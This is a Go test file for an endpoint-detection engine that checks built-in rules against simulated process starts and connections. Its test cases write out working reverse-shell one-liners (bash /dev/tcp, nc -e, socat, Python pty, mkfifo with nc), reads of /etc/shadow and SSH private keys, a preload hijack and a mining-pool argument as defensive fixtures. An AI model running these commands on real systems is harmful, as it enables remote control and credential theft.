package detect

import (
	"bytes"
	"errors"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vedette-edr/vedette/proto/sigma"
	"github.com/vedette-edr/vedette/sensor/internal/event"
)

func engine(t testing.TB, change ...func(*Config)) *Engine {
	t.Helper()
	cfg := Config{Now: func() time.Time { return epoch }, Entropy: bytes.NewReader(bytes.Repeat([]byte{7}, 1<<20))}
	for _, c := range change {
		c(&cfg)
	}
	e, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

var learning = event.Verdict{Tracked: true, New: true, Learning: true}

// Ensure the built-in rules match what they are for and leave ordinary work alone.
func TestBuiltinExec(t *testing.T) {
	memory := func(p *event.Process) { p.Traits = []string{event.TraitMemFD} }
	writable := func(p *event.Process) { p.Traits = []string{event.TraitWorldWritable} }
	serves := func(p *event.Process) {
		p.Origin, p.Anchor = &event.Flow{Remote: netip.MustParseAddrPort("10.0.0.9:5555"), Local: netip.MustParseAddrPort("10.0.0.1:8080")}, p.Key
	}
	for _, tt := range []struct {
		parent, image string
		argv          []string
		change        func(*event.Process)
		want          string // part of a title; empty: no finding
	}{
		{"/usr/bin/bash", "/dev/shm/sh", []string{"/dev/shm/sh", "-c", "id"}, writable, "shared memory"},
		{"/usr/bin/bash", "/run/shm/x", []string{"x"}, nil, "shared memory"},
		{"/usr/sbin/nginx", "/usr/bin/dash", []string{"sh", "-c", "id"}, nil, "network service"},
		{"/usr/sbin/php-fpm8.2", "/usr/bin/bash", []string{"sh", "-c", "id"}, nil, "network service"},
		{"/usr/lib/postgresql/15/bin/postgres", "/usr/bin/dash", []string{"sh", "-c", "id"}, nil, "network service"},
		{"/usr/lib/postgresql/15/bin/postgres", "/usr/bin/dash", []string{"sh", "-c", "pgbackrest archive-push x"}, nil, ""},
		{"/usr/sbin/apache2", "/usr/bin/dash", []string{"sh", "-c", "/usr/bin/rotatelogs x"}, nil, ""},
		{"/usr/bin/node", "/usr/bin/dash", []string{"sh", "-c", "id"}, serves, "application"},
		{"/usr/bin/python3.11", "/usr/bin/dash", []string{"sh", "-c", "id"}, serves, "application"},
		{"/usr/bin/node", "/usr/bin/dash", []string{"sh", "-c", "npm run build"}, nil, ""},
		{"/usr/bin/bash", "/memfd:x", []string{"x"}, memory, "without a file"},
		{"/usr/bin/runc", "/memfd:runc_cloned:/proc/self/exe", []string{"runc", "init"}, memory, ""},
		{"/tmp/runc", "/memfd:runc_cloned:/proc/self/exe", []string{"runc", "init"}, memory, "without a file"},
		{"/usr/bin/sshd", "/usr/bin/bash", []string{"bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"}, nil, "reverse shell"},
		{"/usr/bin/sshd", "/usr/bin/bash", []string{"bash", "-c", "exec 3<>/dev/tcp/10.0.0.9/4444"}, nil, "by itself"},
		{"/usr/bin/sshd", "/usr/bin/bash", []string{"bash", "-c", "</dev/tcp/127.0.0.1/5432"}, nil, ""},
		{"/usr/bin/bash", "/usr/bin/nc.traditional", []string{"nc", "-e", "/bin/sh", "10.0.0.9", "4444"}, nil, "reverse shell"},
		{"/usr/bin/bash", "/usr/bin/nc.openbsd", []string{"nc", "-zv", "db", "5432"}, nil, ""},
		{"/usr/bin/bash", "/usr/bin/socat", []string{"socat", "TCP:10.0.0.9:44", "EXEC:/bin/sh"}, nil, "reverse shell"},
		{"/usr/bin/bash", "/usr/bin/python3.11", []string{"python3", "-c", `import socket,os,pty;s=socket.socket();s.connect(("10.0.0.9",4));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")`}, nil, "reverse shell"},
		{"/usr/bin/bash", "/usr/bin/dash", []string{"sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.9 4 >/tmp/f"}, nil, "reverse shell"},
		{"/usr/bin/bash", "/usr/bin/cat", []string{"cat", "/etc/shadow"}, nil, "Credentials"},
		{"/usr/bin/bash", "/usr/bin/base64", []string{"base64", "/root/.ssh/id_ed25519"}, nil, "Credentials"},
		{"/usr/bin/bash", "/usr/bin/cat", []string{"cat", "/root/.ssh/id_ed25519.pub"}, nil, ""},
		{"/usr/bin/bash", "/usr/bin/ssh", []string{"ssh", "-i", "/root/.ssh/id_rsa", "h"}, nil, ""},
		{"/usr/bin/bash", "/usr/bin/dash", []string{"sh", "-c", "echo /x.so > /etc/ld.so.preload"}, nil, "preload"},
		{"/usr/bin/bash", "/usr/bin/cat", []string{"cat", "/etc/ld.so.preload"}, nil, ""},
		{"/usr/bin/bash", "/opt/x", []string{"x", "-o", "stratum+tcp://pool:3333"}, nil, "mining"},
		// Ordinary work.
		{"/usr/bin/go", "/tmp/go-build123/b001/x.test", []string{"x.test"}, writable, ""},
		{"/usr/bin/apt-get", "/usr/bin/dpkg", []string{"dpkg", "--unpack", "x"}, nil, ""},
		{"/usr/bin/dpkg", "/usr/bin/dash", []string{"/bin/sh", "/var/lib/dpkg/info/x.postinst"}, nil, ""},
		{"/usr/bin/git", "/usr/lib/git-core/git-remote-https", []string{"git"}, nil, ""},
		{"/usr/bin/make", "/usr/bin/dash", []string{"sh", "-c", "gcc -c x.c 2>&1 | tee log"}, nil, ""},
		{"/usr/sbin/sshd", "/usr/bin/bash", []string{"-bash"}, serves, ""},
	} {
		h, e := newHost(), engine(t)
		p := h.process(h.process(nil, tt.parent), tt.image, tt.argv...)
		if tt.change != nil {
			tt.change(p)
		}
		findings, _ := e.Evaluate(h.exec(p), learning)
		var titles []string
		found := tt.want == "" && len(findings) == 0
		for _, f := range findings {
			titles = append(titles, f.Title)
			found = found || tt.want != "" && strings.Contains(f.Title, tt.want)
			if f.RuleID == "" || len(f.Techniques) == 0 || f.Score <= 0 || f.Severity == "" || f.Reason == "" || len(f.ID) != 26 || f.Process != p || !f.Learning {
				t.Errorf("incomplete finding %+v", f)
			}
		}
		if !found {
			t.Errorf("%s started %s %q: got %q, want %q", tt.parent, tt.image, tt.argv, titles, tt.want)
		}
	}
}

// Ensure a shell copied to /dev/shm and what it starts are told with their peer, in learning too.
func TestShellFromSharedMemory(t *testing.T) {
	h, e := newHost(), engine(t)
	login := h.process(nil, "/usr/bin/bash", "bash")
	shell := h.process(login, "/dev/shm/sh", "/dev/shm/sh", "-c", "nc 10.9.9.9 4444")
	findings, notes := e.Evaluate(h.exec(shell), learning)
	// It has a system program's name too, which is another rule's.
	if len(findings) == 0 || findings[0].Title != "Program started from shared memory" || len(notes) != 0 || findings[0].Severity != event.High {
		t.Fatalf("got %v, %v", findings, notes)
	}
	nc := h.process(shell, "/usr/bin/nc", "nc", "10.9.9.9", "4444")
	if f, _ := e.Evaluate(h.exec(nc), learning); len(f) != 0 {
		t.Errorf("exec of the child: got %v", f[0])
	}
	o := h.open(nc, event.Outbound, "10.9.9.9:4444")
	findings, notes = e.Evaluate(o, learning)
	if len(findings) != 1 || len(notes) != 1 {
		t.Fatalf("got %d findings and %d notes, want one each", len(findings), len(notes))
	}
	f := findings[0]
	if f.Kind != "follow-up" || f.Process != nc || f.Process.Parent != shell || len(f.Flows) != 1 || f.Flows[0].Remote.String() != "10.9.9.9:4444" || !f.Learning {
		t.Errorf("got %+v", f)
	}
	if !strings.Contains(f.Reason, "10.9.9.9:4444") || !strings.Contains(f.Reason, "/dev/shm/sh") {
		t.Errorf("reason %q does not say enough", f.Reason)
	}
	if again, _ := e.Evaluate(h.open(nc, event.Outbound, "10.9.9.9:4444"), learning); len(again) != 0 {
		t.Error("the same peer was told twice")
	}
	// By itself as well: the network rule, with the peer.
	findings, _ = e.Evaluate(h.open(shell, event.Outbound, "10.9.9.9:4445"), learning)
	if len(findings) != 1 || findings[0].Flows[0].Remote.Port() != 4445 || !strings.Contains(findings[0].Title, "temporary files") {
		t.Errorf("got %+v", findings)
	}
	// Somebody else's connection is nobody's finding.
	other := h.process(login, "/usr/bin/curl", "curl")
	if f, _ := e.Evaluate(h.open(other, event.Outbound, "10.9.9.9:443"), learning); len(f) != 0 {
		t.Errorf("a bystander: got %v", f[0].Title)
	}
}

// Ensure rules on connections know direction, place and peer.
func TestBuiltinFlows(t *testing.T) {
	for _, tt := range []struct {
		image  string
		traits []string
		dir    event.Direction
		remote string
		want   int
	}{
		{"/tmp/x", []string{event.TraitWorldWritable}, event.Outbound, "192.0.2.1:443", 1},
		{"/var/tmp/x", nil, event.Outbound, "192.0.2.1:443", 1},
		{"/memfd:x", []string{event.TraitMemFD}, event.Outbound, "192.0.2.1:443", 1},
		{"/dev/shm/x", nil, event.Outbound, "127.0.0.1:443", 1},
		{"/tmp/x", nil, event.Outbound, "127.0.0.1:443", 0},
		{"/tmp/x", nil, event.Inbound, "192.0.2.1:443", 0},
		{"/tmp/go-build1/b001/exe/x", nil, event.Outbound, "192.0.2.1:443", 0},
		{"/usr/bin/curl", nil, event.Outbound, "192.0.2.1:443", 0},
	} {
		h, e := newHost(), engine(t)
		p := h.process(nil, tt.image, tt.image)
		p.Traits = tt.traits
		findings, _ := e.Evaluate(h.open(p, tt.dir, tt.remote), learning)
		if len(findings) != tt.want {
			t.Errorf("%s %v %s: got %d findings, want %d", tt.image, tt.dir, tt.remote, len(findings), tt.want)
		}
		if len(findings) == 1 && (len(findings[0].Flows) != 1 || findings[0].Flows[0].Remote.String() != tt.remote) {
			t.Errorf("%s: the peer is missing: %+v", tt.image, findings[0].Flows)
		}
	}
}

// Ensure the same is told once, repeats a few times a minute, and the rest is counted exactly.
func TestLimits(t *testing.T) {
	h, e := newHost(), engine(t)
	session := h.process(nil, "/usr/bin/bash", "bash")
	told := 0
	const runs = 50
	for range runs {
		p := h.process(session, "/dev/shm/x", "x")
		for range 2 { // the same process again is not even a repeat
			f, _ := e.Evaluate(h.exec(p), learning)
			told += len(f)
		}
	}
	s := e.Stats()
	if told != 3 || s.Findings != 3 || s.Suppressed != runs-3 {
		t.Errorf("told %d, stats %+v; want 3 and %d held back", told, s, runs-3)
	}
	h.now = h.now.Add(2 * time.Minute)
	f, _ := e.Evaluate(h.exec(h.process(session, "/dev/shm/x", "x")), learning)
	if len(f) != 1 || !strings.Contains(f[0].Reason, "47 more times") {
		t.Errorf("got %+v", f)
	}

	// What goes on for a day is told ever more rarely, and every time is counted.
	e = engine(t)
	all := 0
	for range 24 * 60 * 2 {
		h.now = h.now.Add(30 * time.Second)
		f, _ := e.Evaluate(h.exec(h.process(session, "/dev/shm/x", "x")), learning)
		all += len(f)
	}
	if s := e.Stats(); all < 20 || all > 60 || s.Findings+s.Suppressed != 24*60*2 {
		t.Errorf("a day of repeats: told %d, stats %+v", all, s)
	}
	// One storyline does not silence another.
	e = engine(t)
	for i := range 500 {
		e.Evaluate(h.exec(h.process(session, "/dev/shm/x", strings.Repeat("y", i%25+1))), learning)
	}
	if f, _ := e.Evaluate(h.exec(h.process(nil, "/dev/shm/z", "z")), learning); len(f) != 1 {
		t.Error("a flood silenced another storyline")
	}

	// The whole host's budget.
	e = engine(t, func(c *Config) { c.Budget = 10 })
	for range 100 {
		p := h.process(nil, "/dev/shm/x", "x")
		_, _ = e.Evaluate(h.exec(p), learning)
	}
	if s := e.Stats(); s.Findings+s.Suppressed != 100 || s.Findings > 20 {
		t.Errorf("budget: got %+v", s)
	}
}

func unusual(bits float64) event.Verdict {
	return event.Verdict{Tracked: true, New: true, Surprise: bits, Watched: 14 * 24 * time.Hour, Behaviour: event.Behaviour{Key: event.BehaviourKey{1}}}
}

// Ensure novelty alone is no finding, and novelty in an odd context is one that explains itself.
func TestAnomalies(t *testing.T) {
	h, e := newHost(), engine(t)
	fresh := unusual(14)
	fresh.ImageNew = true
	ordinary := func(o *event.Observation, v event.Verdict) {
		t.Helper()
		if f, _ := e.Evaluate(o, v); len(f) > 0 {
			t.Errorf("ordinary work: %s: %s (%.0f)", f[0].Title, f[0].Reason, f[0].Score)
		}
	}
	sshd := h.process(nil, "/usr/sbin/sshd", "sshd")
	e.Evaluate(h.open(sshd, event.Inbound, "10.0.0.5:50000"), event.Verdict{})
	bash := h.process(sshd, "/usr/bin/bash", "-bash")
	bash.Origin = &event.Flow{Remote: netip.MustParseAddrPort("10.0.0.5:50000"), Local: netip.MustParseAddrPort("10.0.0.1:22")}
	ordinary(h.exec(bash), unusual(10))
	ordinary(h.exec(h.process(bash, "/usr/bin/newtool", "newtool")), fresh)
	sudo := h.process(bash, "/usr/bin/sudo", "sudo", "-i")
	sudo.Traits = []string{event.TraitSetID}
	ordinary(h.exec(sudo), fresh)
	dpkg := h.process(bash, "/usr/bin/dpkg", "dpkg")
	postinst := h.process(dpkg, "/usr/bin/dash", "sh", "/var/lib/dpkg/info/x.postinst")
	postinst.Script = "/var/lib/dpkg/info/x.postinst"
	ordinary(h.exec(postinst), fresh)
	ordinary(h.open(h.process(bash, "/usr/bin/curl", "curl"), event.Outbound, "198.51.100.7:443"), unusual(12))
	ordinary(h.open(h.process(dpkg, "/usr/lib/apt/methods/https", "https"), event.Outbound, "198.51.100.7:443"), unusual(16))

	web := h.process(nil, "/opt/shop/server", "server")
	e.Evaluate(h.open(web, event.Inbound, "10.0.0.5:50001"), event.Verdict{})
	web.UID, web.User = 33, "www-data"
	shell := h.process(web, "/usr/bin/dash", "sh", "-c", "id\x1b[2J")
	shell.Origin = &event.Flow{Remote: netip.MustParseAddrPort("10.0.0.5:50001"), Local: netip.MustParseAddrPort("10.0.0.1:80")}
	f, _ := e.Evaluate(h.exec(shell), unusual(7))
	if len(f) != 1 || f[0].Kind != "new-exec" || f[0].Learning {
		t.Fatalf("a service's shell: got %+v", f)
	}
	for _, part := range []string{"/opt/shop/server (pid ", "started /usr/bin/dash", "never did in 14 days", "inbound session from 10.0.0.5", "www-data"} {
		if !strings.Contains(f[0].Reason, part) {
			t.Errorf("reason %q lacks %q", f[0].Reason, part)
		}
	}
	if strings.ContainsRune(f[0].Reason, 0x1b) {
		t.Error("the reason carries an escape sequence")
	}
	// Its storyline's threshold is lower now.
	id := h.process(shell, "/usr/bin/id", "id")
	if f, _ := e.Evaluate(h.exec(id), fresh); len(f) != 1 {
		t.Error("a new program below a finding was not told")
	}
	// Learning: nothing.
	e = engine(t)
	quiet := unusual(14)
	quiet.Learning = true
	e.Evaluate(h.open(web, event.Inbound, "10.0.0.5:50001"), event.Verdict{})
	ordinary(h.exec(h.process(web, "/usr/bin/dash", "sh")), quiet)
	// A newcomer that calls out of the host.
	e = engine(t)
	agent := h.process(bash, "/usr/local/bin/agent", "agent")
	ordinary(h.exec(agent), fresh)
	f, _ = e.Evaluate(h.open(agent, event.Outbound, "198.51.100.7:8443"), unusual(10))
	if len(f) != 1 || f[0].Kind != "new-flow" || len(f[0].Flows) != 1 {
		t.Errorf("a newcomer's connection: got %+v", f)
	}
}

// Ensure a rules directory is used, and what cannot be used is named.
func TestRulesDir(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("good.yml", "title: Own\nid: 11111111-2222-4333-8444-555555555555\nlogsource: {category: dns_query, product: linux}\ndetection:\n  s:\n    QueryName|endswith: .evil.example\n  condition: s\nlevel: critical\ntags: [attack.t1071.004]\n")
	write("bad.yml", "title: Bad\nlogsource: {category: dns_query}\ndetection:\n  s:\n    QueryName: x\n  condition: t\n")
	write("other.yml", "title: Windows\nlogsource: {category: registry_event, product: windows}\ndetection:\n  s:\n    TargetObject: x\n  condition: s\n")
	write("note.txt", "no rule")
	e := engine(t, func(c *Config) { c.RulesDir = dir })
	rejected := e.Rejected()
	if len(rejected) != 2 {
		t.Fatalf("rejected %v", rejected)
	}
	var refused *sigma.Error
	if !errors.As(rejected[0], &refused) || refused.Line != 6 || !strings.HasSuffix(refused.Path, "bad.yml") {
		t.Errorf("got %v", rejected[0])
	}
	h := newHost()
	p := h.process(nil, "/usr/bin/dig", "dig")
	o := &event.Observation{Event: &event.DNS{Name: "a.evil.example"}, Time: h.tick(), Process: p}
	f, _ := e.Evaluate(o, event.Verdict{})
	if len(f) != 1 || f[0].Severity != event.Critical || f[0].Lookups[0] != "a.evil.example" || !slices.Equal(f[0].Techniques, []string{"T1071.004"}) {
		t.Errorf("got %+v", f)
	}
	if _, err := New(Config{RulesDir: filepath.Join(dir, "nowhere")}); err == nil {
		t.Error("a missing rules_dir is no error")
	}
}

// Ensure bytes that others chose are safe on a terminal.
func TestPlain(t *testing.T) {
	for in, want := range map[string]string{
		"ls -l": "ls -l", "a\x1b[2Jb": `a\x1b[2Jb`, "a\nb": `a\nb`, "a\xffb": `a\xffb`, `say "x"`: `say "x"`, "äö": "äö",
	} {
		if got := plain(in, 100); got != want {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
	if got := plain(strings.Repeat("x", 100), 10); got != "xxxxxxxxxx…" {
		t.Errorf("long: got %q", got)
	}
}

func TestULID(t *testing.T) {
	u := ulids{entropy: bytes.NewReader(bytes.Repeat([]byte{0xff}, 100))}
	a, b := u.make(time.UnixMilli(1469918176385)), u.make(time.UnixMilli(1469918176386))
	if a[:10] != "01ARYZ6S41" || len(a) != 26 || a >= b { // the time of the specification's example
		t.Errorf("got %s, %s", a, b)
	}
}

func BenchmarkEvaluate(b *testing.B) {
	h := newHost()
	bash := h.process(nil, "/usr/bin/bash", "bash")
	p := h.process(bash, "/usr/bin/grep", "grep", "-r", "pattern", "/etc")
	for _, bench := range []struct {
		name string
		o    *event.Observation
		dir  string
	}{
		{"exec", h.exec(p), ""},
		{"flow", h.open(p, event.Outbound, "192.0.2.1:443"), ""},
		{"exec-sigmahq", h.exec(p), "../../../../shared/eval/sigma"},
	} {
		b.Run(bench.name, func(b *testing.B) {
			if bench.dir != "" {
				if _, err := os.Stat(bench.dir); err != nil {
					b.Skip("SKIP: needs the Sigma rules")
				}
			}
			e := engine(b, func(c *Config) { c.RulesDir = bench.dir })
			v := event.Verdict{Tracked: true, Known: true}
			b.ReportAllocs()
			for b.Loop() {
				e.Evaluate(bench.o, v)
			}
		})
	}
}
